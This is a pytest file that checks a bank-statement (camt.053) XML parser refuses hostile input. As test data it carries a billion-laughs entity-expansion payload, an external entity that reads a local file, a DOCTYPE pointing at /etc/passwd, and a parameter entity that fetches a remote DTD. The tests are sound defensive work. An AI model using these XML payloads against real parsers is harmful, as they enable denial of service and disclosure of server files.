"""Hostile XML is refused before it costs anything: no entity expands, no file is opened."""

from __future__ import annotations

import io
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from bank_ingest.domain.camt import parse_camt
from bank_ingest.domain.statement import ParseError

from .camt_documents import document, entry, statement

_opened: list[str] = []


def _record_opens(event: str, args: tuple[Any, ...]) -> None:
    if event == "open" and args and isinstance(args[0], str | Path):
        _opened.append(str(args[0]))


sys.addaudithook(_record_opens)  # audit hooks cannot be removed; this one only appends paths

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE Document [
  <!ENTITY a "lollollollollollollollollollol">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
  <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
  <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
  <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
  <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
  <!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
  <!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">
]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><Stmt>
<Id>&i;</Id></Stmt></BkToCstmrStmt></Document>
"""


def _first_part(data: bytes) -> object:
    return next(parse_camt(io.BytesIO(data)))


def test_billion_laughs_is_refused_at_once() -> None:
    started = time.perf_counter()
    with pytest.raises(ParseError, match="XML entities and DTDs"):
        _first_part(BILLION_LAUGHS)
    assert time.perf_counter() - started < 1


def test_an_external_entity_is_refused_and_the_file_never_opened(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    body = document(
        statement(
            entry(details="<NtryDtls><TxDtls><AddtlTxInf>&x;</AddtlTxInf></TxDtls></NtryDtls>")
        )
    )
    hostile = body.replace(
        b"<Document",
        f'<!DOCTYPE Document [<!ENTITY x SYSTEM "file://{secret}">]>\n<Document'.encode(),
        1,
    )
    _opened.clear()
    with pytest.raises(ParseError, match="XML entities and DTDs") as refused:
        _first_part(hostile)
    assert "TOP-SECRET" not in str(refused.value)
    assert str(secret) not in _opened


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE Document SYSTEM "file:///etc/passwd">',
        b"<!DOCTYPE Document>",
        b'<!DOCTYPE Document [<!ENTITY % p SYSTEM "http://example.invalid/x.dtd"> %p;]>',
    ],
)
def test_any_doctype_is_refused(doctype: bytes) -> None:
    data = document(statement(entry())).replace(b"<Document", doctype + b"\n<Document", 1)
    with pytest.raises(ParseError, match="XML entities and DTDs"):
        _first_part(data)


def test_an_undeclared_entity_is_malformed_xml() -> None:
    data = document(statement(entry(extra="<NtryRef>&x;</NtryRef>")))
    with pytest.raises(ParseError, match="malformed XML: undefined entity"):
        list(parse_camt(io.BytesIO(data)))
